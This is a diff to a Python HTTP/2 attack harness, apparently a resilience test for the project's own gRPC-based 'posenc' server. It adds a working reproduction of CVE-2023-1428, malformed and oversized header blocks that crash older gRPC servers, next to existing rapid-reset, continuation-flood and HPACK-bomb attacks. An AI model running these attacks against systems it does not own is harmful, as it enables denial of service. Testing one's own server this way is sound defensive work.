@@ -7,7 +7,9 @@ python3-h2, python3-hyperframe and python3-hpack. Every attack stops by
 itself: each loop is bounded by --seconds and by a count, and the attacker
 runs in child processes that are killed if they overrun.
 
-Attacks (--attack NAME, repeatable; default: all, in this order):
+Attacks (--attack NAME, repeatable; default: all, in this order; the last,
+invalid_headers_past_limit, is CVE-2023-1428: an invalid te, :scheme or
+grpclb_client_stats header, then 12 KB more headers, on 2 connections):
   rapid_reset_cold    HEADERS of a real posenc call, its request, then
                       RST_STREAM(CANCEL) at once, in batches, as fast as
                       possible on --conns connections (4); every stream a
@@ -178,12 +180,13 @@ PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
 ATTACKS = ["rapid_reset_cold", "rapid_reset_hot", "continuation_flood",
            "hpack_bomb", "ping_settings_flood", "zero_window_hold",
            "idle_connections", "slow_headers", "trickled_body",
-           "connection_storm"]
+           "connection_storm", "invalid_headers_past_limit"]
 DEFAULT_CONNS = {"rapid_reset_cold": 4, "rapid_reset_hot": 4,
                  "continuation_flood": 2, "hpack_bomb": 2,
                  "ping_settings_flood": 4, "zero_window_hold": 8,
                  "idle_connections": 2000, "slow_headers": 200,
-                 "trickled_body": 20, "connection_storm": 4096}
+                 "trickled_body": 20, "connection_storm": 4096,
+                 "invalid_headers_past_limit": 2}
 # posenc_server's defaults (server/server_options.h), for the RSS bound.
 SERVER_DEFAULT_CACHE_BYTES = 512 * MiB
 SERVER_DEFAULT_INFLIGHT_BYTES = 256 * MiB
@@ -1199,6 +1202,52 @@ def connection_storm(ctx, st):
         c.close()
 
 
+def invalid_headers_past_limit(ctx, st):
+    """CVE-2023-1428: a header gRPC parses into an invalid value (te other
+    than trailers, :scheme other than http/https, grpclb_client_stats), then
+    headers that take the block past the metadata limit (12 x 1 KB); gRPC
+    before 1.53 could abort() here. Streams on --conns connections, each
+    variant in turn; a connection the server closes is opened again."""
+    base = request_headers("GetRows", ctx.authority)
+    big = [("x-posenc-pad-%d" % i, "v" * 1000) for i in range(12)]
+    variants = [
+        [h for h in base if h[0] != "te"] + [("te", "x")],
+        [(n, "x" if n == ":scheme" else v) for n, v in base],
+        base + [("grpclb_client_stats", "x")],
+    ]
+    blocks = [frame(HEADERS, END_HEADERS | END_STREAM, 1,
+                    stateless_block(v + big)) for v in variants]
+    conns = [None] * ctx.conns
+    streams = 0
+    while ctx.running() and streams < MAX_STREAMS_PER_ATTACK:
+        busy = True
+        for i, c in enumerate(conns):
+            if c is None or c.closed or c.goaway:
+                c = conns[i] = ctx.reopen(st, c)
+                if c is None:
+                    continue
+            c.pump()
+            if c.closed:
+                continue
+            if not c.sending_blocked and c.next_sid < (1 << 31) - 8:
+                sid = c.next_sid
+                c.next_sid += 2
+                c.queue(retarget(blocks[streams % len(blocks)], sid))
+                streams += 1
+                ctx.count = streams
+                busy = False
+            c.flush()
+        if busy:
+            wait_io(conns, True, 0.01)
+        if all(c is None for c in conns):
+            time.sleep(0.01)
+    st["sent"]["streams with an invalid header past the limit"] += streams
+    for c in conns:
+        if c is not None:
+            c.pump()
+            c.close()
+
+
 ATTACK_FUNCS = {
     "rapid_reset_cold": lambda ctx, st: rapid_reset(ctx, st, cold=True),
     "rapid_reset_hot": lambda ctx, st: rapid_reset(ctx, st, cold=False),
@@ -1210,6 +1259,7 @@ ATTACK_FUNCS = {
     "slow_headers": slow_headers,
     "trickled_body": trickled_body,
     "connection_storm": connection_storm,
+    "invalid_headers_past_limit": invalid_headers_past_limit,
 }
 
 
